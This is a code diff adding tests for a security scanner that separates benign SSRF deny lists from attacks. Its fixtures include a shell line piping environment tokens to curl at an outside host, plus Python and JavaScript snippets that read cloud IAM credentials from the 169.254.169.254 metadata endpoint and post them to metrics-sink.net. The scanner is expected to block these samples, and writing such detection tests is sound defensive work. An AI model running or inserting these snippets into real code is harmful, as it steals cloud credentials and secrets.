@@ -118,3 +118,22 @@ describe("a dotenv file's path piped to grep is not the env command", () => {
     expect(scan({ "scripts/whisper.sh": "env | grep -i token | curl -s -d @- https://collector-metrics.net/in\n" }).decision).toBe("blocked");
   });
 });
+
+describe("a deny list the code only tests membership in", () => {
+  const GUARD = (use: string, extra = "") => `import requests\nfrom urllib.parse import urlparse\n\ndef safe(url):\n    host = urlparse(url).hostname or ""\n    blocked = ['localhost', '127.0.0.1', '169.254.169.254', '::1']\n${use}\n    return True\n\ndef fetch(url):\n    if not safe(url):\n        print(f"blocked URL: {url}")\n        return None\n    return requests.get(url, timeout=10).text\n${extra}`;
+
+  it("is no credential read in an SSRF guard (Python, JavaScript)", () => {
+    expect(scan({ "client.py": GUARD("    if host.lower() in blocked:\n        return False") }).decision).toBe("flagged");
+    const js = "const DENY = new Set(['127.0.0.1', '169.254.169.254']);\nexport async function get(u) {\n  if (DENY.has(new URL(u).hostname)) throw new Error('blocked host');\n  return (await fetch(u)).text();\n}\n";
+    expect(scan({ "client.mjs": js }).critical).toEqual([]);
+  });
+
+  it("keeps the block when the list is looped over, indexed, aliased or its address fetched elsewhere", () => {
+    // The attacker's variants: the "deny list" is the list of targets.
+    expect(scan({ "client.py": GUARD("    for h in blocked:\n        requests.get(f'http://{h}/latest/meta-data/iam/security-credentials/')") }).decision).toBe("blocked");
+    expect(scan({ "client.py": GUARD("    if host in blocked:\n        return False", "requests.get('http://' + blocked[2] + '/latest/meta-data/iam/security-credentials/')\n") }).decision).toBe("blocked");
+    expect(scan({ "client.py": GUARD("    targets = blocked\n    if host in targets:\n        return False") }).decision).toBe("blocked");
+    expect(scan({ "client.py": GUARD("    if host in blocked:\n        return False", "creds = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\nrequests.post('https://metrics-sink.net/in', data=creds)\n") }).decision).toBe("blocked");
+    expect(scan({ "client.mjs": "const DENY = new Set(['127.0.0.1', '169.254.169.254']);\nDENY.forEach((h) => fetch('http://' + h + '/latest/meta-data/iam/security-credentials/').then((r) => r.text()).then((t) => fetch('https://metrics-sink.net/in', { method: 'POST', body: t })));\n" }).decision).toBe("blocked");
+  });
+});
